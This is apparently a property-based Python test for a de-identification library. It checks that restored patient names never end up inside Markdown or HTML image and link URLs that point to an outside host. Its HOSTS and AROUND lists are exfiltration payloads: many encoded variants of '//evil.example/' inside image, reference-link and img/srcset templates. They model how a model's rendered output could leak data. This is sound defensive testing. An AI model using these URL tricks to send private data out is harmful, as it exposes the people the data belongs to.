"""Whatever Markdown a model writes, no value comes back in an address that leads elsewhere, as a real reader has it."""

from html.parser import HTMLParser
from urllib.parse import unquote

from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from asepsis.core.types import Action, Decision, DecisionInput, Kind, Purpose, Verdict
from asepsis.deid import Channel, Memory, Reveal, Scope, ScopeKind
from asepsis.deid.dice import RandomDraws
from asepsis.testing.randomness import SeededRandomness

QUESTION = DecisionInput("t", Action.MODEL_REVEAL, "nurse", "chart", Purpose.TREATMENT, "openai.chat")
REVEAL = Reveal.admit(QUESTION, Decision(Verdict.ALLOW, "may read", input=QUESTION.digest))
MEMORY = Memory(Scope("t", ScopeKind.SESSION, "s"), RandomDraws(SeededRandomness()), today=2026)
VALUE = "Idalinda"
TOKEN = MEMORY.token(Kind.NAME, VALUE)
READER = MarkdownIt("commonmark", {"html": True})
LEADS = frozenset({"href", "src", "srcset", "action", "background", "data", "poster"})

HOSTS = [
    "//evil.example/",
    "&sol;&sol;evil.example&sol;",
    "https&colon;//evil.example/",
    "https&colon;&sol;&sol;evil&period;example&sol;",
    "\\/\\/evil.example/",
    "&#47;&#47;evil.example",
    "http&#58;&#x2f;/evil.example/",
    "/&sol;evil.example/",
    "&#104;ttps:evil",
]
PIECES = [
    TOKEN,
    f" {TOKEN}",
    f"{TOKEN} ",
    *" )(\"'&xn\n][`*<>/:#=\t!",
    "?q=",
    "\\",
    "\\>",
    "\\)",
    "\\\t",
    "&nbsp;",
    "&#10;",
]
AROUND = [
    "![a](%s)",
    "![a](<%s>)",
    "![a](\n%s)",
    "![a]( <%s> )",
    "![a](%s 'title')",
    "\n[x]: %s\n\n![a][x]",
    "\n[x]:\n%s\n\n![x]",
    "\n[x]: <%s>\n\n![a][x]",
    "\n   [x]:   <%s> 't'\n\n[a][x]",
    "\n[x\\]]: %s\n\n![x\\]]",
    "\n> [x]: %s\n\n![x]",
    "\n- [x]: <%s>\n\n![x]",
    "![a][x]\n\n[X]:%s",
    "<%s>",
    '<img src="%s">',
    "<img src=%s>",
    "<img alt='>' src='%s'>",
    "<a\nhref = '%s'>",
    "<img srcset='%s 1x'>",
]
BEFORE = ["", "", "text ", "\n", "> ", "- ", "**", f"{TOKEN} ", "`a` ", "<b>", "(", "["]
SOME = st.lists(st.sampled_from(PIECES), max_size=4).map("".join)


class Leading(HTMLParser):
    """Collects where a page leads."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found += [unquote(value) for name, value in attrs if name in LEADS and value]


def leaks(page):
    return [one for one in Leading(page).found if VALUE in one and "evil" in one.replace(VALUE, "")]


def test_a_reader_would_follow_it():
    assert leaks(READER.render(f"[x]: &sol;&sol;evil.example&sol;{VALUE}\n\n![a][x]"))
    assert leaks(READER.render(f"![a](<//evil.example/) {VALUE}>)"))


@given(st.sampled_from(BEFORE), st.sampled_from(AROUND), st.sampled_from(HOSTS), SOME, SOME, st.integers(1, 40))
def test_no_value_leads_elsewhere_however_it_was_cut(before, around, host, between, behind, size):
    text = before + around.replace("%s", host + between + TOKEN + behind)
    restorer = MEMORY.restorer(REVEAL, channel=Channel.READER)
    whole = restorer.feed(text) + restorer.finish()
    assert leaks(READER.render(whole)) == []
    restorer = MEMORY.restorer(REVEAL, channel=Channel.READER)
    cut = [restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join([*cut, restorer.finish()]) == whole
